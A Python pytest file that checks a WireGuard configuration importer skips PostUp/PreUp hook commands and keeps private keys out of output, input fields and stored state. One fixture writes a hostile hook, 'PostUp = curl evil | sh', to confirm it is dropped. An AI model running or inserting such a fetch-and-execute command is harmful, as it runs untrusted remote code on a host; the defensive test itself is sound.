"""Taking over the people who dial another WireGuard server today."""

import csv
import json
import os
from io import StringIO

import pytest

from vpn.wireguard import keys

SERVER = f"[Interface]\nPrivateKey = {keys.generate_private().reveal()}\nListenPort = 51820\n"


def imported(sanaga, text):
    (sanaga.folder / "wg0.conf").write_text(text, encoding="utf-8")
    return sanaga("vpn", "import", "wg0.conf", "--role", "doctor", "--site", "mora")


def peer(host, *lines):
    key = keys.public_of(keys.generate_private())
    rest = "".join(f"{line}\n" for line in lines)
    return f"[Peer]\nPublicKey = {key}\nAllowedIPs = 10.8.0.{host}/32\n{rest}"


def test_what_is_not_needed_is_skipped_with_a_notice_for_its_line(sanaga):
    text = f"{SERVER}PostUp = curl evil | sh\nPreUp = \nSaveConfig = true\n\n# Ateba\n" + peer(2)
    answer = imported(sanaga, text + "\n[Peer]\nPublicKey = x\n")
    assert answer.code == 0, answer.err
    assert [row["title"] for row in csv.DictReader(StringIO(answer.out))] == ["Ateba"]
    assert "wg0.conf:4:1: commands are not taken over" in answer.err
    assert "wg0.conf:14:1: the value of 'PublicKey' cannot be read" in answer.err
    assert "curl" not in answer.out + answer.err


def test_a_file_of_which_no_peer_can_be_read_ends_with_code_1(sanaga):
    answer = imported(sanaga, "[Interface]\n[Peer]\nPublicKey = x\n")
    assert (answer.code, answer.out) == (1, "")
    assert "wg0.conf:3:1: the value of 'PublicKey' cannot be read" in answer.err


def test_people_whose_last_place_was_saved_are_people(sanaga):
    answer = imported(sanaga, SERVER + peer(2, "Endpoint = 198.51.100.60:51820"))
    assert answer.code == 0, answer.err
    assert len(answer.out.splitlines()) == 2


def test_a_private_key_in_a_remark_gets_nowhere(sanaga, open_):
    secret = keys.generate_private().reveal()
    text = SERVER + f"\n# PrivateKey = {secret}\n" + peer(2, f"# key: {secret}") + f"\n# {secret}\n"
    answer = imported(sanaga, text + peer(3))
    (sanaga.folder / "people.csv").write_text(answer.out, encoding="utf-8")
    done = sanaga("vpn", "person", "apply", "people.csv", "--because", "moved here")
    assert done.code == 0, done.err
    said = [answer, done, sanaga("vpn", "audit", "-o", "json"), sanaga("vpn", "person", "list")]
    assert not any(secret[:20] in one.out + one.err for one in said)
    state = (sanaga.folder / "state").rglob("*")
    assert not any(secret.encode()[:20] in f.read_bytes() for f in state if f.is_file())


def test_no_verb_takes_a_key_in_free_text(sanaga, open_):
    secret = keys.generate_private().reveal()
    base = ("vpn", "person", "add", "a-ngono", "--role", "doctor", "--site", "mora", "--file", "f")
    plain = ("--title", "Dr Ngono", "--because", "locum")
    for words in (
        (*base, "--title", f"Ngono {secret}", "--because", "x"),
        (*base, "--title", "Dr Ngono", "--because", f"key {secret}"),
        (*base, *plain, "--licence", secret),
        ("vpn", "site", "export", "yaounde-e1", "--file", "g", "--because", secret),
    ):
        answer = sanaga(*words)
        assert answer.code == 64, answer.err
        assert "the text holds what looks like a key" in answer.err
        assert secret[:20] not in answer.err + answer.out
    people = f"name,title,role,site\na-ngono,{secret},doctor,mora\n{secret},Dr Awa,doctor,mora\n"
    (sanaga.folder / "people.csv").write_text(people, encoding="utf-8")
    answer = sanaga("vpn", "person", "plan", "people.csv")
    assert answer.code == 1
    assert "people.csv:2:1: the text holds what looks like a key" in answer.err
    assert secret[:20] not in answer.err + answer.out
    assert json.loads(sanaga("vpn", "person", "list", "--all", "-o", "json").out) == []


def test_no_document_takes_a_key_in_free_text(sanaga, small):
    secret = keys.generate_private().reveal()
    (sanaga.folder / small / "more.yaml").write_text(
        f"sites:\n  - {{name: x, description: 'key {secret}'}}\n", encoding="utf-8"
    )
    answer = sanaga("validate", small)
    assert answer.code == 1
    assert "the text holds what looks like a key" in answer.err + answer.out
    assert secret[:20] not in answer.err + answer.out


@pytest.mark.parametrize("verb", [("import", "--role", "r", "--site", "s"), ("person", "plan")])
def test_what_never_ends_is_not_read(sanaga, open_, verb):
    os.mkfifo(sanaga.folder / "pipe")
    for file in ("/dev/zero", "pipe"):
        answer = sanaga("vpn", *verb, file)
        assert answer.code == 1
        assert f"{file}: this is no regular file" in answer.err
